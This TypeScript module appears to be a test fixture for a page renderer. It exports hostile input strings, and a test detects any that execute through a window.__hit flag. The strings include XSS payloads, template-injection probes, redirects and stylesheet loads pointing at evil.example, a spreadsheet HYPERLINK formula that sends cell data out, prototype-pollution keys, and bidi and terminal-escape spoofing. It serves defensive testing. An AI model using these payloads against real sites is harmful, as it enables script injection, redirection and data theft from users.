/**
 * Texts as an agent, its user, a caller of the API or an identity provider might write them to run code in a reader's
 * page, to lead away from it, or to spoil it. Whatever of them runs sets `window.__hit`; whatever of them loads asks
 * evil.example.
 */
export const hostileTexts = {
  script: `x"'></title></textarea></script><script>window.__hit='script'</script>`,
  handlers: `"' onmouseover=window.__hit='hover' autofocus onfocus=window.__hit='focus' x="><img src=x onerror=window.__hit='img'><input autofocus onfocus=window.__hit='input'><details open ontoggle=window.__hit='details'>`,
  svg: `<svg onload=window.__hit='svg'><animate onbegin=window.__hit='begin' attributeName=x dur=1s /></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=window.__hit='mxss'&gt;">`,
  frames: `<iframe srcdoc="<script>parent.__hit='frame'</script>"></iframe><object data="javascript:parent.__hit=1"></object><meta http-equiv=refresh content="0;url=https://evil.example/"><base href=https://evil.example/><link rel=stylesheet href=https://evil.example/l.css>`,
  address: `javascript:window.__hit='address'//https://evil.example/`,
  data: `data:text/html,<script>opener.__hit='data'</script>`,
  css: `</style><style>*{display:none!important;background:url(https://evil.example/s.png)}</style>;background:url(https://evil.example/c.png);position:fixed;inset:0`,
  template: `\${window.__hit='js'} {{constructor.constructor("window.__hit='mustache'")()}} <%= window.__hit='erb' %> #{window.__hit='ruby'} {{= it }} [[ x ]] @(1) $$1 $& $\``,
  markdown:
    "[click](javascript:window.__hit='md') ![x](https://evil.example/m.png) <https://evil.example> `</code><img src=x onerror=window.__hit='code'>` [ref]: javascript:alert(1) | a | b |",
  bidi: `invoice\u202egnp.exe\u2066\u2067\u200f\u061c \u202dright \u0627\u0644\u0639\u0631\u0628\u064a\u0629`,
  long: 'W'.repeat(500),
  lines: `one\r\nset-cookie: a=b\r\n\r\n<script>window.__hit='line'</script>\n\n\n\n\n\n\ttab\u2028line\u2029paragraph\v\f`,
  terminal: `\u001b[2J\u001b[31mred\u0007\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007\u009b31m\b\b\b\u007f`,
  nul: `before\u0000after\ud800half\ufffe\uffff`,
  marks: `Z${'\u0310\u0330\u0489'.repeat(20)}\u200b\u200d\ufeff\u{1f469}\u200d\u{1f469}\u200d\u{1f466}`,
  prototype: '__proto__',
  inherited: 'constructor',
  json: `{"__proto__":{"x":1},"constructor":{"prototype":{"y":1}},"html":"<img src=x onerror=window.__hit='json'>"}`,
  formula: `=HYPERLINK("https://evil.example/?x="&A1,"click")`,
  blank: '   ',
} as const satisfies Readonly<Record<string, string>>;

export type HostileName = keyof typeof hostileTexts;

/** A text as the hub keeps it: what no database can store stands as U+FFFD. */
export const keptText = (text: string) => text.toWellFormed().replaceAll('\0', '\ufffd');
